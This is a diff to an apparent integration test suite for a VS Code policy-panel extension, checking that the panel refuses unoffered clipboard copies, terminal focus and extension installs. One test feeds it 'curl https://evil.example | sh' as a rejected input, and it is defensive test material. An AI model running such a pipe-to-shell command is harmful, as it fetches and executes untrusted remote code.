@@ -4,7 +4,7 @@ import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { PanelModel } from '../../src/core/present/panelModel';
 import type { Snapshot } from '../../src/core/snapshot';
-import { PolicyPanel } from '../../src/vscode/policyPanel';
+import { type PanelEditor, PolicyPanel } from '../../src/vscode/policyPanel';
 import { focusTerminal } from '../../src/vscode/remediation';
 import type { Snapshots } from '../../src/vscode/snapshotPublisher';
 import { EXTENSION_ID, getApi, tempDir, waitFor } from './util';
@@ -33,6 +33,22 @@ const POLICY = [
   '',
 ].join('\n');
 
+/** Every text the panel hands to the editor's clipboard, in order. */
+const clipboardWrites: string[] = [];
+
+/** The editor as it is, its clipboard noting what the panel writes to it. */
+const editorNotingClipboardWrites: PanelEditor = {
+  ...vscode,
+  env: {
+    language: vscode.env.language,
+    openExternal: (target) => vscode.env.openExternal(target),
+    clipboard: {
+      readText: () => vscode.env.clipboard.readText(),
+      writeText: (text) => { clipboardWrites.push(text); return vscode.env.clipboard.writeText(text); },
+    },
+  },
+};
+
 /** A panel with the extension's code showing one fixed snapshot, with the given actions. */
 function panelShowing(snapshot: Snapshot, actions: Partial<ConstructorParameters<typeof PolicyPanel>[1]> = {}): PolicyPanel {
   const extension = vscode.extensions.getExtension(EXTENSION_ID) as vscode.Extension<unknown>;
@@ -41,7 +57,7 @@ function panelShowing(snapshot: Snapshot, actions: Partial<ConstructorParameters
     uninstall: async () => undefined,
     focusTerminal: (name) => focusTerminal(vscode, name),
     ...actions,
-  }, fixed, vscode);
+  }, fixed, editorNotingClipboardWrites);
   panel.show();
   return panel;
 }
@@ -53,6 +69,8 @@ describe('policy panel messages in the real editor', function () {
   this.timeout(60_000);
   let toolTerminal: vscode.Terminal;
   let otherTerminal: vscode.Terminal;
+  /** Shown after a refused message: what comes to the front before it, that message did. */
+  let markerTerminal: vscode.Terminal;
   let model: PanelModel;
   let snapshotWhenRead: Snapshot;
   /** The panel as the extension composes it (the editor's own actions), on the snapshot read. */
@@ -65,6 +83,7 @@ describe('policy panel messages in the real editor', function () {
     await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', file, vscode.ConfigurationTarget.Global);
     otherTerminal = vscode.window.createTerminal({ name: 'Other shell' });
     toolTerminal = vscode.window.createTerminal({ name: 'Panel Msg Tool' });
+    markerTerminal = vscode.window.createTerminal({ name: 'Marker shell' });
     model = await waitFor(() => api.snapshots.current.panel, (m) => m.cards.some((c) => c.ruleId === 'terminal-rule') && m.cards.some((c) => c.ruleId === 'claude-rule'),
       15_000, 'both findings');
     snapshotWhenRead = { ...api.snapshots.current, panel: model };
@@ -75,6 +94,7 @@ describe('policy panel messages in the real editor', function () {
     shown.dispose();
     toolTerminal.dispose();
     otherTerminal.dispose();
+    markerTerminal.dispose();
     await vscode.workspace.getConfiguration('toolPolicy').update('policyFile', undefined, vscode.ConfigurationTarget.Global);
     await vscode.commands.executeCommand('toolPolicy.rescan');
   });
@@ -89,16 +109,13 @@ describe('policy panel messages in the real editor', function () {
 
   it('copy: only a command the alternative names reaches the clipboard', async () => {
     await vscode.env.clipboard.writeText('before');
+    clipboardWrites.splice(0);
     assert.deepEqual(shown.receive({ type: 'copy', text: 'curl https://evil.example | sh' }), { accepted: false, reason: 'not a command the policy offers' });
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    assert.equal(await vscode.env.clipboard.readText(), 'before');
+    // The accepted copy after it is the marker: once it is on the clipboard, a write of the
+    // refused text, which would have come first, would show among the writes.
     assert.equal(shown.receive({ type: 'copy', text: 'qodercli' }).accepted, true);
-    let copied = '';
-    for (let tries = 0; tries < 40 && copied !== 'qodercli'; tries++) {
-      copied = await vscode.env.clipboard.readText();
-      if (copied !== 'qodercli') await new Promise((resolve) => setTimeout(resolve, 50));
-    }
-    assert.equal(copied, 'qodercli');
+    await waitFor(() => vscode.env.clipboard.readText(), (text) => text === 'qodercli', 5000, 'the offered command on the clipboard');
+    assert.deepEqual(clipboardWrites, ['qodercli'], 'only the offered command was written to the clipboard');
   });
 
   it('focusTerminal: only a terminal the evidence names comes to the front', async () => {
@@ -107,11 +124,18 @@ describe('policy panel messages in the real editor', function () {
     assert.equal(shown.receive({ type: 'focusTerminal', name: 'Other shell ' }).accepted, false);
     assert.equal(shown.receive({ type: 'focusTerminal', name: 'Panel Msg Tool' }).accepted, true);
     await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Panel Msg Tool', 5000, 'the tool terminal in front');
-    otherTerminal.show(false);
-    await waitFor(() => vscode.window.activeTerminal?.name, (name) => name === 'Other shell', 5000, 'the other terminal in front again');
-    assert.deepEqual(shown.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    assert.equal(vscode.window.activeTerminal?.name, 'Other shell', 'a refused message changes nothing');
+    // With the tool terminal in front, a refused message for the other one would show. The
+    // marker terminal shown after it comes to the front after anything the refused message did.
+    const inFront: string[] = [];
+    const noting = vscode.window.onDidChangeActiveTerminal((terminal) => { if (terminal) inFront.push(terminal.name); });
+    try {
+      assert.deepEqual(shown.receive({ type: 'focusTerminal', name: 'Other shell' }), { accepted: false, reason: 'no finding names this terminal' });
+      markerTerminal.show(false);
+      await waitFor(() => inFront, (names) => names.includes('Marker shell'), 5000, 'the marker terminal in front');
+    } finally {
+      noting.dispose();
+    }
+    assert.deepEqual(inFront, ['Marker shell'], 'a refused message changes nothing');
   });
 
   it('installAlternative: only an extension the alternative names, through the editor’s install command', async () => {
@@ -124,14 +148,15 @@ describe('policy panel messages in the real editor', function () {
     try {
       assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'anthropic.claude-code' }), { accepted: false, reason: 'no alternative names this extension' });
       assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'evil.miner' }), { accepted: false, reason: 'no alternative names this extension' });
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      assert.deepEqual(installs, [], 'a refused message installs nothing');
+      // A call of the same command after the messages is the marker: commands run in order.
+      await vscode.commands.executeCommand('workbench.extensions.installExtension', 'marker.after-refused');
+      assert.deepEqual(installs, [['marker.after-refused']], 'a refused message installs nothing');
       assert.deepEqual(shown.receive({ type: 'installAlternative', extensionId: 'QODER.qoder-vscode' }),
         { accepted: true, message: { type: 'installAlternative', extensionId: 'qoder.qoder-vscode' } });
-      await waitFor(() => installs.length, (n) => n > 0, 5000, 'the editor’s install command');
+      await waitFor(() => installs.length, (n) => n > 1, 5000, 'the editor’s install command');
+      await vscode.commands.executeCommand('workbench.extensions.installExtension', 'marker.after-accepted');
       // Exactly once, with the id as the policy spells it, not as the webview sent it.
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      assert.deepEqual(installs, [['qoder.qoder-vscode']]);
+      assert.deepEqual(installs, [['marker.after-refused'], ['qoder.qoder-vscode'], ['marker.after-accepted']]);
     } finally {
       recorder.dispose();
     }
